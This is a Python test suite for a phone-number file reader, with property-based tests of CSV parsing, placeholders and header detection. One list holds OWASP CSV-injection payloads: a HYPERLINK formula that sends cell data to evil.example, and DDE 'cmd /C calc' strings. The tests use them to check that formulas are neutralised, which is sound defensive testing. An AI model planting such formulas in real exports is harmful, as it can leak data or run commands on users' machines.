"""Reading number files: properties over generated files, not a list of examples."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sinch_qualified_numbers.cli._codes import read_codes
from sinch_qualified_numbers.cli._inputs import read_number_file, read_numbers, rejected_path_for
from sinch_qualified_numbers.cli._output import csv_cell, emit

DELIMITERS = [",", ";", "\t", "|"]

numbers = st.integers(min_value=0, max_value=9999).map(lambda i: f"+1202555{i:04d}")
spellings = st.sampled_from(["{}", "({a}) {b}-{c}", "1-{a}-{b}-{c}", "{a}.{b}.{c}"])


def spell(number: str, pattern: str) -> str:
    a, b, c = number[2:5], number[5:8], number[8:]
    return pattern.format(number, a=a, b=b, c=c)


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.tuples(numbers, spellings, st.text(max_size=12)), unique_by=lambda t: t[0]),
    st.sampled_from(DELIMITERS),
    st.booleans(),
)
def test_a_file_written_by_a_csv_writer_reads_back_exactly(
    rows: list[tuple[str, str, str]], delimiter: str, number_first: bool
) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\n")
    header = ["phoneNumber", "name"] if number_first else ["name", "phoneNumber"]
    writer.writerow(header)
    for number, pattern, name in rows:
        # One physical line per row: spreadsheets exporting phone lists do not wrap cells.
        name = name.replace("\n", " ").replace("\r", " ")
        cells = [spell(number, pattern), name]
        writer.writerow(cells if number_first else cells[::-1])
    parsed = read_numbers(buffer.getvalue())
    assert parsed.rejected == []
    assert parsed.valid == [number for number, _, _ in rows]


HEADER_NAMES = {"phone", "phonenumber", "phone_number", "number", "numbers", "msisdn", "e164"}
cells = st.one_of(
    numbers,
    st.builds(spell, numbers, spellings),
    st.text(alphabet='0123456789+-() "abc#;,|\t', max_size=20),
    st.text(max_size=8),
).filter(lambda cell: cell.strip().lower().replace(" ", "") not in HEADER_NAMES)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(cells, min_size=1, max_size=3), max_size=30), st.sampled_from(DELIMITERS))
def test_no_line_with_a_digit_is_dropped_without_a_word(
    rows: list[list[str]], delimiter: str
) -> None:
    lines = [delimiter.join(row).replace("\n", " ").replace("\r", " ") for row in rows]
    parsed = read_numbers("\n".join(lines))
    data = [n for n, line in enumerate(lines, 1) if not line.lstrip().startswith("#")]
    with_digits = [n for n in data if any(c.isdigit() for c in lines[n - 1])]
    rejected_lines = [line for line, _, _ in parsed.rejected]
    assert len(rejected_lines) == len(set(rejected_lines))
    assert set(rejected_lines) <= set(data)
    # Without a header, each line holding a digit gives one valid number or one rejected row.
    assert set(with_digits) - set(rejected_lines) <= set(data)
    accounted = len(parsed.valid) + len(parsed.rejected)
    assert len(with_digits) <= accounted <= len(data)


#: Cells a spreadsheet would run as formulas (OWASP's CSV injection list), each as a row.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_rejected_rows_never_reach_a_spreadsheet_as_formulas(tmp_path: Path) -> None:
    file = tmp_path / "numbers.csv"
    lines = ["phoneNumber,name", "+12025550134,Ann", "+12025550134,dup", "+1 202 555 01,short"]
    lines += [f'"{formula.replace(chr(34), chr(34) * 2)}",x' for formula in FORMULAS]
    file.write_bytes(("\n".join(lines) + "\n").encode())
    parsed = read_number_file(file, rejected_path=rejected_path_for(file))
    rows = list(csv.reader(io.StringIO(rejected_path_for(file).read_text(), newline="")))
    values = [row[1] for row in rows[1:]]
    # A number stays as it is (a spreadsheet reads it as a number: nothing runs)...
    assert values[:2] == ["+12025550134", "+1 202 555 01"]
    # ... and every formula is neutralised by a leading apostrophe, otherwise unchanged.
    assert values[2:] == [f"'{formula.lstrip()}" for formula in FORMULAS if formula.strip()]
    assert parsed.rejected_count == 2 + len(FORMULAS)


def test_csv_output_neutralises_formulas_but_not_numbers(
    capsys: pytest.CaptureFixture[str],
) -> None:
    rows = [{"phoneNumber": "+12025550134", "state": "-1", "note": formula} for formula in FORMULAS]
    emit(rows, "csv", ["phoneNumber", "state", "note"])
    read = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert [row["phoneNumber"] for row in read] == ["+12025550134"] * len(FORMULAS)
    assert [row["state"] for row in read] == ["-1"] * len(FORMULAS)
    assert [row["note"] for row in read] == [f"'{formula}" for formula in FORMULAS]
    assert csv_cell("+1 (202) 555-0134") == "+1 (202) 555-0134"
    assert csv_cell("-0.5") == "-0.5" and csv_cell(12) == 12
    assert csv_cell("=1") == "'=1" and csv_cell("+1a") == "'+1a"


#: What people put in a number column when there is no number (Excel's #N/A included).
PLACEHOLDERS = ["N/A", "n/a", "NA", "-", "--", "none", "None", "null", "TBD", "tbc", "?", "#N/A"]


@pytest.mark.parametrize("header", [True, False])
def test_a_placeholder_cell_is_one_clear_row_and_the_rest_proceeds(header: bool) -> None:
    lines = ["phoneNumber,name"] if header else []
    lines += ["+12025550134,first"]
    lines += [f"{value},row {i}" if header else value for i, value in enumerate(PLACEHOLDERS)]
    if header:
        lines += [",no number here"]  # an empty cell in a row that has other data
    lines += ["+12025550135,last"]
    parsed = read_numbers("\n".join(lines) + "\n")
    assert parsed.valid == ["+12025550134", "+12025550135"]
    expected = [*PLACEHOLDERS, *([""] if header else [])]
    assert [value for _, value, _ in parsed.rejected] == expected  # each once, in order
    assert parsed.rejected_count == len(expected)
    for line, value, reason in parsed.rejected:
        assert reason.startswith("not a phone number"), (line, value, reason)
        assert "more than one value" not in reason
        if value:
            assert repr(value) in reason  # the row's value, said as it was
        else:
            assert "empty" in reason
    assert [line for line, _, _ in parsed.rejected] == list(
        range(3 if header else 2, 3 + len(expected) if header else 2 + len(expected))
    )


def test_a_comment_line_is_still_a_comment() -> None:
    parsed = read_numbers("# numbers from sales\n+12025550134\n#N/A\n")
    assert parsed.valid == ["+12025550134"]
    assert [(line, value) for line, value, _ in parsed.rejected] == [(3, "#N/A")]


def test_two_numbers_in_one_cell_still_say_so() -> None:
    parsed = read_numbers("+12025550134 / +12025550135\n")
    assert "more than one value" in parsed.rejected[0][2]


@pytest.mark.parametrize(
    "name", ["Mobile", "Cell Phone", "telephone", "Phone-Number", "PHONE_NUMBER", "DID"]
)
def test_a_header_naming_the_number_column_as_people_do_is_read_as_one(name: str) -> None:
    parsed = read_numbers(f"Name;{name};Notes\nJane;(202) 555-0134;x\nJoe;+1 416 555 0123;\n")
    assert parsed.valid == ["+12025550134", "+14165550123"]
    assert parsed.rejected == []
    codes = read_codes(f"Code,{name}\n1234,(202) 555-0134\n")
    assert codes.valid == {"+12025550134": "1234"} and codes.rejected == []
